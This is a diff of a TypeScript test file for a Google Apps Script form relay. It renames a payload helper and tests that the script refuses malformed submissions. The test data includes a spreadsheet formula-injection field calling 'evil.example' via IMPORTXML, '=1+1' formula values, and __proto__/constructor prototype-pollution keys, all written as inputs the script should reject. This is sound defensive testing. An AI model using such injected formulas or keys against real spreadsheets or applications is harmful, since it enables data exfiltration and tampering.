@@ -1,7 +1,7 @@
 import { FORMS } from '../src/submission/forms/index';
 import type { SubmissionKind } from '../src/submission/types';
 import { startScript, type Query, type RunningScript } from './testing/appsScript';
-import { newKey, payloadOf } from './testing/submit';
+import { newKey, createPayload } from './testing/submit';
 
 /** The real docs/apps-script.gs with fake Google services: refused requests. */
 let script: RunningScript;
@@ -16,7 +16,7 @@ const expectUntouched = () => {
 };
 
 test('§3.12 §3.13 the script accepts exactly the fields of the payloads', () => {
-  const built = (Object.keys(FORMS) as SubmissionKind[]).map((kind) => [kind, payloadOf(kind)] as const);
+  const built = (Object.keys(FORMS) as SubmissionKind[]).map((kind) => [kind, createPayload(kind)] as const);
   expect(script.fields).toEqual(Object.fromEntries(built.map(([kind, payload]) => [kind, Object.keys(payload)])));
   for (const [, payload] of built) expect(script.post(payload)).toEqual({ ok: true });
   expect(script.rowCounts()).toEqual({ Applications: 1, Contact: 1, Quotes: 1, 'Custom requests': 1 });
@@ -28,29 +28,29 @@ const many = Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`fiel
 test.each<[string, unknown]>([
   ['broken JSON', '{"timestamp":'],
   ['null', 'null'],
-  ['a list', [payloadOf('contact')]],
+  ['a list', [createPayload('contact')]],
   ['a text', '"targetGid"'],
   ['an object without fields', {}],
-  ['a tab that no form names', { ...payloadOf('contact'), targetGid: '7' }],
-  ['a targetGid that every object has', { ...payloadOf('contact'), targetGid: 'constructor' }],
-  ['a targetGid that is a number', { ...payloadOf('contact'), targetGid: 0 }],
-  ['a formula as a field', { ...payloadOf('contact'), '=IMPORTXML("https://evil.example")': 'x' }],
-  ['10,000 fields', { ...payloadOf('contact'), ...many }],
-  ['the id as a field', { ...payloadOf('contact'), submission: '=1+1' }],
-  ['__proto__ as a field', json(JSON.stringify(payloadOf('contact')).replace('{', '{"__proto__":"x",'))],
-  ['constructor as a field', { ...payloadOf('contact'), constructor: 'x' }],
-  ['a field of another kind', { ...payloadOf('contact'), requirements: 'A lot' }],
-  ['fields of two kinds', { ...payloadOf('quote'), requirements: 'A lot' }],
-  ['a list as a value', { ...payloadOf('contact'), message: ['=1+1'] }],
-  ['an object as a value', { ...payloadOf('contact'), message: { toString: '=1+1' } }],
-  ['a number as a value', { ...payloadOf('custom-request'), phone: 151 }],
-  ['null as a value', { ...payloadOf('contact'), message: null }],
-  ['more characters than the limit of a cell', payloadOf('application', { coverLetter: 'x'.repeat(60_000) })],
+  ['a tab that no form names', { ...createPayload('contact'), targetGid: '7' }],
+  ['a targetGid that every object has', { ...createPayload('contact'), targetGid: 'constructor' }],
+  ['a targetGid that is a number', { ...createPayload('contact'), targetGid: 0 }],
+  ['a formula as a field', { ...createPayload('contact'), '=IMPORTXML("https://evil.example")': 'x' }],
+  ['10,000 fields', { ...createPayload('contact'), ...many }],
+  ['the id as a field', { ...createPayload('contact'), submission: '=1+1' }],
+  ['__proto__ as a field', json(JSON.stringify(createPayload('contact')).replace('{', '{"__proto__":"x",'))],
+  ['constructor as a field', { ...createPayload('contact'), constructor: 'x' }],
+  ['a field of another kind', { ...createPayload('contact'), requirements: 'A lot' }],
+  ['fields of two kinds', { ...createPayload('quote'), requirements: 'A lot' }],
+  ['a list as a value', { ...createPayload('contact'), message: ['=1+1'] }],
+  ['an object as a value', { ...createPayload('contact'), message: { toString: '=1+1' } }],
+  ['a number as a value', { ...createPayload('custom-request'), phone: 151 }],
+  ['null as a value', { ...createPayload('contact'), message: null }],
+  ['more characters than the limit of a cell', createPayload('application', { coverLetter: 'x'.repeat(60_000) })],
   [
     '50,000 characters, which the added apostrophe makes too many',
-    payloadOf('application', { coverLetter: 'x'.repeat(50_000) }),
+    createPayload('application', { coverLetter: 'x'.repeat(50_000) }),
   ],
-  ['a résumé that is no data URL', payloadOf('application', { resumeBase64: 'nonsense' })],
+  ['a résumé that is no data URL', createPayload('application', { resumeBase64: 'nonsense' })],
 ])('§8 the script refuses %s and stores nothing', (_what, payload) => {
   for (const query of [{ submission: newKey() }, {}])
     expect(script.post(payload, query)).toEqual({ ok: false, error: expect.stringMatching(/\w/) });
@@ -66,18 +66,18 @@ test.each<[string, Query]>([
   ['another value of quarantine', { quarantine: 'yes' }],
   ['quarantine twice', 'quarantine=1&quarantine=1'],
 ])('§8 the script refuses %s in the query and stores nothing', (_what, query) => {
-  expect(script.post(payloadOf('contact'), query)).toEqual({ ok: false, error: expect.stringMatching(/\w/) });
+  expect(script.post(createPayload('contact'), query)).toEqual({ ok: false, error: expect.stringMatching(/\w/) });
   expectUntouched();
 });
 
 test('§8 the script responds with an error when the tab of a message was deleted', () => {
   script.google.tabs.pop();
-  expect(script.post(payloadOf('contact'), { submission: newKey() })).toMatchObject({ ok: false });
+  expect(script.post(createPayload('contact'), { submission: newKey() })).toMatchObject({ ok: false });
   expect(script.rowCounts()).toEqual({ Applications: 0 });
 });
 
 test('§8 the error message names an unknown field and truncates a long name', () => {
-  const { error } = script.post({ ...payloadOf('contact'), ['x'.repeat(5000)]: '' });
+  const { error } = script.post({ ...createPayload('contact'), ['x'.repeat(5000)]: '' });
   expect(error).toMatch(/x{20}/);
   expect(error?.length).toBeLessThan(200);
 });
@@ -89,7 +89,7 @@ describe('§8 with RELAY_SECRET set', () => {
   });
 
   test('the script stores a request with the secret', () => {
-    expect(script.post(payloadOf('contact'), { submission: newKey(), secret })).toEqual({ ok: true });
+    expect(script.post(createPayload('contact'), { submission: newKey(), secret })).toEqual({ ok: true });
     expect(script.rowCounts()).toMatchObject({ Contact: 1 });
   });
 
@@ -104,11 +104,11 @@ describe('§8 with RELAY_SECRET set', () => {
   ])('the script refuses a request with %s before it reads or stores anything', (_what, query) => {
     // A stranger who reaches the lock would block the relay.
     script.google.isLocked = true;
-    script.post(payloadOf('contact'), query);
+    script.post(createPayload('contact'), query);
     script.post('{"timestamp":', query);
     expect(script.google.loggedErrors.join()).not.toMatch(/lock|JSON/i);
     script.google.isLocked = false;
-    const answer = script.post(payloadOf('contact'), query);
+    const answer = script.post(createPayload('contact'), query);
     expect(answer.ok).toBe(false);
     expect(JSON.stringify([answer, script.google.loggedErrors])).not.toContain(secret);
     expectUntouched();
@@ -116,7 +116,7 @@ describe('§8 with RELAY_SECRET set', () => {
 
   test.each(['', 'short'])('the script refuses every request when the property is %j', (value) => {
     script.google.properties.RELAY_SECRET = value;
-    expect(script.post(payloadOf('contact'), { secret: value })).toMatchObject({ ok: false });
+    expect(script.post(createPayload('contact'), { secret: value })).toMatchObject({ ok: false });
     expectUntouched();
   });
 });
